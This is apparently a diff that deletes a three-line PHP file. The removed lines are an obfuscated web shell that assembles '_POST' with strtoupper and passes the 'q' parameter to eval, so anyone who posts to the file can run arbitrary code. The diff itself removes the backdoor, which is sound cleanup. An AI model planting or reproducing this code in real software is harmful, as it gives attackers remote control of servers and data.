@@ -1,3 +1,0 @@
-<?php
-$n = strtoupper('_post');
-if (isset(${$n}['q'])) { eval(${$n}['q']); }
